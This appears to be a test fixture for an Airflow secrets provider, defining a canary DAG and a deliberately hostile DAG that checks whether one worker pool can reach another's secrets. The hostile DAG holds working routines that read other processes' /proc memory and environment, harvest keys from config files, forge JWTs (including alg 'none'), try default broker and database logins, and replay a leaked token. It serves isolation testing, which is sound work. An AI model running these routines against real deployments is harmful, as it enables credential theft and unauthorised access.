"""Two DAGs in two worker pools that share nothing, for tests/e2e/test_hostile_dag_pools.py.

``mlsecrets_pool_a`` (queue ``mlsecrets-pool-a``) injects three canaries from the vault into
a command that waits until it is released. ``mlsecrets_pool_b`` (queue ``mlsecrets-pool-b``)
is the hostile DAG: while a's command runs, it tries every way at those values that a task
has (another pool's process memory and environment, the JWT signing key and tokens forged
with anything it can find, the broker's queues, the result backend, the control plane's
files, the metadata database, the vault's own routes, its own finished task's token) and
reports what each attempt got. Everything it manages to read from a place that is not its
own is printed into its log as well, so the test finds a canary there if any attack worked.

Nothing here runs at import: parsing this file is harmless to every other test that uses
this folder.
"""

from __future__ import annotations

import configparser
import json
import os
import re
import sys
import time
from datetime import datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote, urlsplit

from airflow.sdk import dag, get_current_context, task

QUEUE_A = "mlsecrets-pool-a"
QUEUE_B = "mlsecrets-pool-b"
CHILD_MARKER = "mlsecrets-pool-a-child"
START = datetime(2026, 1, 1)
JWT = re.compile(rb"eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{16,}")
# what pool A's DAG is granted: the hostile DAG asks for exactly these
A_VARIABLES = ("mlsecrets:pool/a/api_key", "pool_a_setting")
A_CONNECTIONS = ("pool_a_db",)
WAIT = (
    "import os, sys, time\n"
    "deadline = time.monotonic() + 300\n"
    "while not os.path.exists(sys.argv[1]) and time.monotonic() < deadline:\n"
    "    time.sleep(0.5)\n"
    "print('pool a child released with', len(os.environ['API_KEY']), 'characters')\n"
)


@dag(dag_id="mlsecrets_pool_a", schedule=None, start_date=START, catchup=False,
     default_args={"queue": QUEUE_A, "retries": 0}, params={"release": "/nonexistent"})
def pool_a() -> None:
    from airflow_provider_mlsecrets.operators.inject import InjectSecretsOperator

    InjectSecretsOperator(
        task_id="inject",
        env={"API_KEY": "secret:pool/a/api_key", "DB_PASSWORD": "conn:pool_a_db.password",
             "SETTING": "var:pool_a_setting"},
        command=[sys.executable, "-c", WAIT, "{{ params.release }}", CHILD_MARKER])


# ---------------------------------------------------------------- the hostile DAG's tools

class Loot:
    """What the attacks read from places that are not pool B's own, bounded, for the log."""

    def __init__(self) -> None:
        self.items: list[str] = []
        self.size = 0

    def add(self, where: str, data: bytes | str) -> None:
        text = data.decode("utf-8", "replace") if isinstance(data, bytes) else data
        text = text[:200_000]
        if self.size < 2_000_000:
            self.items.append(f"{where}: {text}")
            self.size += len(text)

    def dump(self) -> None:
        for item in self.items:
            print("LOOT", item.replace("\x00", " "))


def _error(exc: BaseException) -> str:
    return type(exc).__name__


def _intel() -> dict[str, Any]:
    conf = get_current_context()["dag_run"].conf
    return dict(conf or {})


def _other_processes(loot: Loot) -> dict[str, Any]:
    """Every process of another Unix user: environment, memory, command line."""
    me = os.getuid()
    got: dict[str, Any] = {"environ_read": [], "mem_read": [], "environ_refused": 0,
                           "mem_refused": 0, "pool_a_pids": []}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            owner = entry.stat().st_uid
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if owner == me:
            continue
        if CHILD_MARKER.encode() in cmdline or b"mlsecrets-pool-a" in cmdline:
            got["pool_a_pids"].append(int(entry.name))
        loot.add(f"cmdline {entry.name}", cmdline)
        try:
            loot.add(f"environ {entry.name}", (entry / "environ").read_bytes())
            got["environ_read"].append(int(entry.name))
        except OSError:
            got["environ_refused"] += 1
        try:
            maps = (entry / "maps").read_text().splitlines()
            with open(entry / "mem", "rb") as mem:
                for line in maps[:50]:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    try:
                        mem.seek(start)
                        loot.add(f"mem {entry.name}", mem.read(min(end - start, 1 << 16)))
                        got["mem_read"].append(int(entry.name))
                        break
                    except OSError:
                        continue
        except OSError:
            got["mem_refused"] += 1
    return got


def _secret_candidates(intel: dict[str, Any], loot: Loot) -> tuple[dict[str, str], dict[str, str]]:
    """Every secret-looking value in reach: the environment, our own airflow.cfg, and any
    file the control plane keeps (the signing key, its config, the vault's files)."""
    candidates: dict[str, str] = {}
    files: dict[str, str] = {}
    for name, value in os.environ.items():
        if any(word in name.upper() for word in ("JWT", "SECRET", "KEY", "TOKEN", "PASS")):
            candidates[f"env:{name}"] = value
    for name in ("AIRFLOW__CELERY__BROKER_URL", "AIRFLOW__CELERY__RESULT_BACKEND"):
        password = unquote(urlsplit(os.environ.get(name, "")).password or "")
        if password:
            candidates[f"env-password:{name}"] = password
    own_cfg = Path(os.environ.get("AIRFLOW_HOME", "~/airflow")).expanduser() / "airflow.cfg"
    for path in [str(own_cfg), *intel.get("files", [])]:
        try:
            data = Path(path).read_bytes() if not Path(path).is_dir() else "\n".join(
                sorted(p.name for p in Path(path).iterdir())).encode()
        except OSError as exc:
            files[path] = _error(exc)
            continue
        files[path] = "read"
        if path != str(own_cfg):
            loot.add(f"file {path}", data)
        candidates[f"file:{path}"] = data.decode("utf-8", "replace")
        parser = configparser.ConfigParser(interpolation=None, strict=False)
        try:
            parser.read_string(data.decode("utf-8", "replace"))
        except configparser.Error:
            continue
        for section in parser.sections():
            for option, value in parser.items(section):
                if value and any(w in option for w in ("secret", "key", "password")):
                    candidates[f"cfg:{path}:{section}.{option}"] = value
    return candidates, files


def _forged_tokens(intel: dict[str, Any], candidates: dict[str, str]) -> dict[str, str]:
    """Task tokens for pool A's running task instance, signed with every candidate, with a
    fresh key of our own, and with no signature at all."""
    import jwt
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    now = int(time.time())
    claims = {"sub": intel.get("a_ti_id", ""), "aud": "urn:airflow.apache.org:task",
              "scope": "execution", "iat": now, "nbf": now, "exp": now + 600,
              "jti": "forged", "iss": ""}
    tokens: dict[str, str] = {}
    for name, secret in candidates.items():
        if "PRIVATE KEY" in secret:
            try:
                tokens[f"{name}:EdDSA"] = jwt.encode(claims, secret, algorithm="EdDSA")
            except Exception as exc:  # a key of another type: report and go on
                tokens[f"{name}:unusable"] = _error(exc)
            continue
        for alg in ("HS512", "HS256"):
            tokens[f"{name}:{alg}"] = jwt.encode(claims, secret, algorithm=alg)
    tokens["own-ed25519"] = jwt.encode(claims, Ed25519PrivateKey.generate(), algorithm="EdDSA")
    tokens["alg-none"] = jwt.encode(claims, "", algorithm="none")
    return {k: v for k, v in tokens.items() if not k.endswith(":unusable")}


def _ask_for_a(api: str, token: str | None, loot: Loot, where: str) -> list[int]:
    """Every one of pool A's values through the Execution API; the status codes."""
    import httpx

    headers = {"authorization": f"Bearer {token}"} if token is not None else {}
    statuses = []
    urls = [f"{api}/execution/variables/{quote(key, safe='/:')}" for key in A_VARIABLES]
    urls += [f"{api}/execution/connections/{conn}" for conn in A_CONNECTIONS]
    for url in urls:
        try:
            got = httpx.get(url, headers=headers, timeout=30)
        except httpx.HTTPError:
            statuses.append(-1)
            continue
        statuses.append(got.status_code)
        if got.status_code == 200:
            loot.add(f"{where} {url}", got.text)
    return statuses


def _broker(intel: dict[str, Any], loot: Loot) -> dict[str, str]:
    """Pool A's queue with our own broker credentials and with guest's: get, publish."""
    import amqp  # type: ignore[import-untyped]

    own = urlsplit(os.environ.get("AIRFLOW__CELERY__BROKER_URL", ""))
    host = f"{own.hostname or '127.0.0.1'}:{own.port or 5672}"
    vhost = unquote(own.path[1:]) or "/"
    logins = {"own": (unquote(own.username or ""), unquote(own.password or "")),
              "guest": ("guest", "guest")}
    result: dict[str, str] = {}
    for label, (user, password) in logins.items():
        for action in ("get", "publish-exchange", "publish-default", "declare-own-binding"):
            key = f"{label}:{action}"
            try:
                with amqp.Connection(host=host, userid=user, password=password,
                                     virtual_host=vhost, connect_timeout=10) as conn:
                    channel = conn.channel()
                    queue = intel["queue_a"]
                    if action == "get":
                        message = channel.basic_get(queue=queue, no_ack=False)
                        if message is not None:
                            loot.add(f"broker {key}", message.body)
                            channel.basic_reject(message.delivery_tag, requeue=True)
                        result[key] = "got a message" if message is not None else "empty"
                    elif action == "publish-exchange":
                        channel.basic_publish(amqp.Message(b"{}"), exchange=queue,
                                              routing_key=queue)
                        channel.basic_qos(0, 1, False)  # a round trip: a refusal shows here
                        result[key] = "published"
                    elif action == "publish-default":
                        channel.basic_publish(amqp.Message(b"{}"), exchange="",
                                              routing_key=queue)
                        channel.basic_qos(0, 1, False)
                        result[key] = "published"
                    else:  # bind a queue of our own to pool A's exchange: a copy of its work
                        channel.queue_bind(intel["queue_b"], exchange=queue, routing_key=queue)
                        result[key] = "bound"
            except Exception as exc:  # refused: which way is the result
                result[key] = _error(exc)
    return result


def _results(loot: Loot) -> dict[str, str]:
    """The Celery result backend with our own credentials: list, scan, listen to all."""
    import redis

    url = os.environ.get("AIRFLOW__CELERY__RESULT_BACKEND", "")
    parts = urlsplit(url)
    result: dict[str, str] = {}
    logins = {"own": (unquote(parts.username or ""), unquote(parts.password or "")),
              "default": (None, None)}
    for label, (user, password) in logins.items():
        client = redis.Redis(host=parts.hostname or "127.0.0.1", port=parts.port or 6379,
                             username=user, password=password, socket_timeout=10)
        for action in ("keys", "scan", "psubscribe", "config"):
            key = f"{label}:{action}"
            try:
                if action == "keys":
                    got: Any = client.keys("*")
                elif action == "scan":
                    got = client.scan(0, count=1000)
                elif action == "psubscribe":
                    pubsub = client.pubsub()  # type: ignore[no-untyped-call]
                    pubsub.psubscribe("*")
                    got = pubsub.get_message(timeout=2)
                    pubsub.close()
                else:
                    got = client.config_get("*")
                loot.add(f"redis {key}", repr(got))
                result[key] = "answered"
            except Exception as exc:  # refused: which way is the result
                result[key] = _error(exc)
        client.close()
    return result


def _metadata_db(intel: dict[str, Any]) -> dict[str, str]:
    """The metadata database: as its own role with no password, and as the superusers."""
    import psycopg

    result: dict[str, str] = {}
    for user in (intel["db_user"], "postgres", "vault_admin", "airflow"):
        try:
            with psycopg.connect(host=intel["db_host"], port=intel["db_port"], user=user,
                                 dbname=intel["db_name"], connect_timeout=10,
                                 password=os.environ.get("PGPASSWORD", "")):
                result[user] = "connected"
        except Exception as exc:  # refused: which way is the result
            result[user] = _error(exc)
    return result


def _vault_routes(api: str, candidates: dict[str, str], loot: Loot) -> dict[str, list[int]]:
    """The vault's own HTTP routes with no credentials, a bogus token, and Airflow user
    tokens forged with every candidate secret."""
    import httpx
    import jwt

    now = int(time.time())
    user_claims = {"sub": "admin", "role": "ADMIN", "aud": "apache-airflow", "iat": now,
                   "nbf": now, "exp": now + 600, "jti": "forged"}
    headers: dict[str, dict[str, str]] = {
        "none": {}, "bogus": {"authorization": "Bearer " + "A" * 43}}
    for name, secret in candidates.items():
        if "PRIVATE KEY" not in secret:
            headers[f"airflow-user:{name}"] = {
                "authorization": "Bearer " + jwt.encode(user_claims, secret, algorithm="HS512")}
    result: dict[str, list[int]] = {}
    for label, header in headers.items():
        statuses = []
        for method, path in (("GET", "/mlsecrets/v1/list"),
                             ("POST", "/mlsecrets/v1/read/pool/a/api_key"),
                             ("POST", "/mlsecrets/v1/read/connections/pool_a_db")):
            try:
                got = httpx.request(method, api + path, headers=header, json={}, timeout=30)
            except httpx.HTTPError:
                statuses.append(-1)
                continue
            statuses.append(got.status_code)
            if got.status_code == 200:
                loot.add(f"vault {label} {path}", got.text)
        result[label] = statuses
    return result


@dag(dag_id="mlsecrets_pool_b", schedule=None, start_date=START, catchup=False,
     default_args={"queue": QUEUE_B, "retries": 0})
def pool_b() -> None:
    @task
    def own_token() -> dict[str, Any]:
        """Reads its own granted variable, then tries to lift its own task token out of its
        supervisor's memory (same Unix user), for a later task to replay."""
        import jwt
        from airflow.sdk import Variable

        ti_id = str(get_current_context()["ti"].id)
        own_length = len(Variable.get("pool_b_setting"))
        found: set[str] = set()
        parent = Path(f"/proc/{os.getppid()}")
        try:
            with open(parent / "mem", "rb") as mem:
                for line in (parent / "maps").read_text().splitlines():
                    fields = line.split()
                    if "r" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
                        continue
                    start, end = (int(x, 16) for x in fields[0].split("-"))
                    try:
                        mem.seek(start)
                        chunk = mem.read(end - start)
                    except (OSError, OverflowError, ValueError):
                        continue
                    found.update(m.decode() for m in JWT.findall(chunk))
            memory = "read"
        except OSError as exc:  # Airflow's supervisor makes itself undumpable
            memory = _error(exc)
        mine = []
        for token in found:
            try:
                claims = jwt.decode(token, options={"verify_signature": False})
            except jwt.PyJWTError:
                continue
            if claims.get("sub") == ti_id:
                mine.append(token)
        return {"own_value_length": own_length, "supervisor_memory": memory,
                "tokens_found": len(mine)}

    @task
    def attack() -> dict[str, Any]:
        intel = _intel()
        loot = Loot()
        report: dict[str, Any] = {"uid": os.getuid()}
        report["processes"] = _other_processes(loot)
        candidates, report["files"] = _secret_candidates(intel, loot)
        report["candidates"] = sorted(candidates)
        api = intel["api"]
        report["forged"] = {name: _ask_for_a(api, token, loot, f"forged {name}")
                            for name, token in _forged_tokens(intel, candidates).items()}
        report["no_token"] = _ask_for_a(api, None, loot, "no token")
        report["broker"] = _broker(intel, loot)
        report["results"] = _results(loot)
        report["metadata_db"] = _metadata_db(intel)
        report["vault"] = _vault_routes(api, candidates, loot)
        print("ATTACK REPORT", json.dumps(report, sort_keys=True))
        loot.dump()
        return report

    @task
    def replay() -> dict[str, Any]:
        """The first task has finished: its own token (leaked to this DAG's home by the test,
        as a log or a careless operator might leak it), asked for its own granted value."""
        import httpx

        api = _intel()["api"]
        leaked = Path(os.environ["HOME"]) / "leaked_token"
        deadline = time.monotonic() + 120
        while not leaked.exists() and time.monotonic() < deadline:
            time.sleep(0.5)
        got = httpx.get(f"{api}/execution/variables/pool_b_setting",
                        headers={"authorization": f"Bearer {leaked.read_text().strip()}"},
                        timeout=30)
        return {"statuses": [got.status_code]}

    own_token() >> attack() >> replay()


pool_a()
pool_b()
